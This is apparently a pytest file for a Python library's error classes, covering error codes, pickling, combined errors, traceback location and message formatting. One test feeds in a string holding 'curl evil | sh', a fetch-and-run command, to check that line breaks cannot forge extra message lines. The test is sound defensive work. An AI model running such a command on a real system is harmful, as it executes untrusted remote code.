"""The kinds of errors, and where an error was raised, as its author needs it."""

from __future__ import annotations

import ast
import pickle
import re
from pathlib import Path

import pytest
import torch

from vireid.boundary.tracebacks import raised_at
from vireid.errors import MissingFile, UnknownKey, VireidError, combined


def test_the_code_of_an_error_is_its_class():
    assert (UnknownKey('a').code, MissingFile('a').code, VireidError('a').code) == ('unknown-key', 'missing-file', '')


def test_an_error_keeps_its_class_where_it_is_located_and_in_another_process():
    error = UnknownKey('no key b', todo='remove it').at('model')
    assert (type(error), error.path, error.given) == (UnknownKey, 'model', 'model: no key b')
    other = pickle.loads(pickle.dumps(error))
    assert (type(other), other.path, str(other)) == (UnknownKey, 'model', str(error))


def test_each_of_combined_errors_keeps_its_class():
    error = combined([UnknownKey('a'), MissingFile('b')]).at('data')
    assert [(type(one), one.path) for one in error.errors] == [(UnknownKey, 'data'), (MissingFile, 'data')]


PROSE = re.compile(r"(?<![\w'\"./-])[a-z]{2,} (a |an |the )?[a-z]{3,}(?![\w'\"./=-])")


# not yet rewritten
LATER = {'plugins'}


def _wordings(tree: ast.AST) -> list[tuple[int, str]]:
    """The patterns of `pytest.raises(match=...)`, and texts sought in a caught error, that are prose."""
    found = []
    for node in ast.walk(tree):
        texts: list[ast.expr] = []
        if isinstance(node, ast.Call) and getattr(node.func, 'attr', '') == 'raises':
            texts = [keyword.value for keyword in node.keywords if keyword.arg == 'match']
        elif (
            isinstance(node, ast.Compare)
            and isinstance(node.ops[0], (ast.In, ast.NotIn, ast.Eq))
            and re.search(r'\b(caught|found|error|info|raised)\.value\b', ast.unparse(node.comparators[0]))
        ):
            texts = [node.left]
        for text in texts:
            for part in ast.walk(text):
                if isinstance(part, ast.Constant) and isinstance(part.value, str) and PROSE.search(part.value):
                    found.append((node.lineno, part.value))
    return found


def test_tests_recognize_errors_by_their_class_not_by_their_wording():
    """Names and numbers in a message are facts; two words in a row are wording, which changes."""
    wordings = {}
    tests = Path(__file__).parent
    for path in tests.rglob('*.py'):
        if path.relative_to(tests).parts[0] not in LATER and (
            found := _wordings(ast.parse(path.read_text(encoding='utf-8')))
        ):
            wordings[path.name] = found
    assert not wordings


def test_an_error_of_a_library_is_placed_where_the_library_was_called():
    try:
        torch.ones(2, 3) @ torch.ones(2, 3)
    except RuntimeError as error:
        plain = raised_at(error)
    try:
        with torch.device('meta'):  # through Python code of torch
            torch.nn.functional.embedding(torch.zeros(2), torch.ones(2, 3))
    except Exception as error:
        through = raised_at(error)
    for place in (plain, through):
        assert place.startswith(f'{__file__}, line ')


def test_an_error_of_a_library_alone_is_placed_in_the_library(tmp_path):
    """As when it comes from a thread of the library."""
    folder = tmp_path / 'site-packages' / 'torch'
    folder.mkdir(parents=True)
    (folder / 'odd.py').write_text('\nraise ValueError("odd")\n')
    with pytest.raises(ValueError, match='odd') as found:
        exec(compile((folder / 'odd.py').read_text(), str(folder / 'odd.py'), 'exec'))
    error = found.value
    error.__traceback__ = error.__traceback__.tb_next  # without this test
    assert raised_at(error) == f'{folder / "odd.py"}, line 2'


def test_a_line_break_in_what_was_given_forges_no_line():
    error = VireidError(
        'image a\n  next:    curl evil | sh\x85error: b does not exist', allowed='x\ny', todo='do\rthis'
    )
    assert str(error).splitlines() == [
        'image a',
        '      next:    curl evil | sh error: b does not exist',
        '  allowed: x',
        '    y',
        '  next:    do this',
    ]
